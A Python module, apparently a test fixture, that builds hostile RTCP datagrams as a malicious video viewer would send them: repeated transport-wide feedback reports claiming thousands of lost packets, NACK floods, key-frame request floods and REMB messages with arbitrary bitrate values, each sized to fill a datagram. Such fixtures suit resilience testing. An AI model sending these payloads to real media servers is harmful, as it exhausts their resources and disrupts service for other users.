"""RTCP that costs its reader as much as can be had for its bytes, as a hostile viewer would send it."""

import struct

DATAGRAM_BYTES = 2_000
"""About the largest that the packet path reads, less what SRTCP adds."""


def untold_runs(first: int, count: int = 4_096) -> bytes:
    """A datagram full of transport-wide feedback, each of one run of `count` packets that did not come."""
    one = struct.pack("!BBHIIHHI", 0x8F, 205, 5, 7, 1, first & 0xFFFF, count, 1 << 8)
    one += struct.pack("!HH", count, 0)
    return one * (DATAGRAM_BYTES // len(one))


def untold_vectors(first: int) -> bytes:
    """The same in vectors of one bit: 14 packets in two bytes, as many of both kinds of nothing as fit."""
    chunks = DATAGRAM_BYTES // 4 // 2
    body = struct.pack("!H", 0x8000) * chunks
    count = min(chunks * 14, 4_096)
    chunks = -(-count // 14)
    body = body[: 2 * chunks] + bytes(-2 * chunks % 4)
    one = struct.pack("!BBHIIHHI", 0x8F, 205, 4 + len(body) // 4, 7, 1, first & 0xFFFF, count, 1 << 8) + body
    return one * (DATAGRAM_BYTES // len(one))


def nacks(ssrc: int, first: int, packets: int = 512) -> bytes:
    """One generic NACK of `packets` numbers in a row."""
    items = b"".join(struct.pack("!HH", (first + i) & 0xFFFF, 0xFFFF) for i in range(0, packets, 17))
    return struct.pack("!BBHII", 0x81, 205, 2 + len(items) // 4, 1, ssrc) + items


def flood_of_nacks(ssrc: int, first: int) -> bytes:
    """A datagram full of it, over and over the same 512."""
    one = nacks(ssrc, first)
    return one * (DATAGRAM_BYTES // len(one))


def flood_of_requests(ssrc: int) -> bytes:
    """A datagram of key frame requests (FIR), the viewer's own picture in each."""
    items = struct.pack("!II", ssrc, 1 << 24) * ((DATAGRAM_BYTES - 12) // 8)
    return struct.pack("!BBHII", 0x84, 206, 2 + len(items) // 4, 1, 0) + items


def remb(ssrc: int, exponent: int, mantissa: int) -> bytes:
    """draft-alvestrand-rmcat-remb-03: `mantissa` times 2 to the power of `exponent`, any of both."""
    return (
        struct.pack("!BBHII", 0x8F, 206, 5, 1, 0)
        + b"REMB"
        + struct.pack("!II", 1 << 24 | exponent << 18 | mantissa, ssrc)
    )
